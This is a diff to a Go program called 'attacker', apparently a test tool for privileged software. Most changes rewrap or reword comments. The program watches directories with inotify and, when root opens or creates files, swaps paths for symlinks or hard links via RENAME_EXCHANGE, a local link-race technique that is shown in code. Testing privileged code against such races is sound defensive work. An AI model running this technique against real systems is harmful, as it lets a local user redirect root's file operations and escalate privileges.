@@ -1,15 +1,17 @@
 //go:build linux
 
-// Attacker is what a local user runs against root: it waits until root touches something, and then redirects a path.
+// Attacker is a program of a local user who attacks root. It waits until root touches something, and then redirects a
+// path.
 //
 //	attacker open DIR LINK TARGET      when somebody opens DIR, LINK becomes a link to TARGET
 //	attacker folder DIR PART TARGET    each new folder in DIR with PART in its name becomes a link to TARGET
-//	attacker after FILE GLOB TARGET    when somebody opens FILE, the first folder that matches GLOB becomes a link to TARGET
+//	attacker after FILE GLOB TARGET    when somebody opens FILE, the first folder that matches GLOB becomes a link to
+//	                                   TARGET
 //	attacker whole DIR PART TARGET     when DIR has a new file with PART in its name, DIR becomes a link to TARGET
 //	attacker exchange A B              A and B exchange their names, again and again
 //	attacker links DIR FILE            each file below DIR becomes a hard link to FILE, then itself again, and so on
 //
-// It prints a line when it is ready, and one for each time that it has done so.
+// It prints a line when it is ready, and one line each time that it redirects something.
 package main
 
 import (
@@ -40,7 +42,9 @@ func main() {
 		}
 	}
 	verb, dir, name, target := os.Args[1], os.Args[2], os.Args[3], os.Args[4]
-	mask := map[string]uint32{"open": unix.IN_OPEN, "after": unix.IN_OPEN, "folder": unix.IN_CREATE, "whole": unix.IN_CREATE}[verb]
+	mask := map[string]uint32{
+		"open": unix.IN_OPEN, "after": unix.IN_OPEN, "folder": unix.IN_CREATE, "whole": unix.IN_CREATE,
+	}[verb]
 	fd, err := unix.InotifyInit1(0)
 	check(err)
 	_, err = unix.InotifyAddWatch(fd, dir, mask)
@@ -50,9 +54,9 @@ func main() {
 	case "open":
 		spare = name + ".spare"
 	case "whole":
-		spare = filepath.Join(filepath.Dir(dir), "spare") // nothing is exchanged with what is in it
+		spare = filepath.Join(filepath.Dir(dir), "spare") // a name cannot be exchanged with one below it
 	case "after":
-		spare = filepath.Join(filepath.Dir(name), "spare") // a directory of root's goes to no other directory
+		spare = filepath.Join(filepath.Dir(name), "spare") // root's directory cannot be moved to another parent
 	}
 	os.Remove(spare)
 	check(os.Symlink(target, spare))
@@ -91,7 +95,7 @@ func main() {
 	}
 }
 
-// links exchanges each file below dir for a hard link to a file, or that for the file that was there.
+// links exchanges each file below dir for a hard link to file; the next time it exchanges them back.
 func links(dir, file string) {
 	const mark = ".attacker"
 	filepath.WalkDir(dir, func(path string, d fs.DirEntry, err error) error {
@@ -108,7 +112,7 @@ func links(dir, file string) {
 	})
 }
 
-// swap exchanges what two names in directories of ours stand for: a folder of root's and a link, say.
+// swap exchanges two names in our directories, such as that of a folder of root's and of a link.
 func swap(folder, link string) bool {
 	return unix.Renameat2(unix.AT_FDCWD, link, unix.AT_FDCWD, folder, unix.RENAME_EXCHANGE) == nil
 }
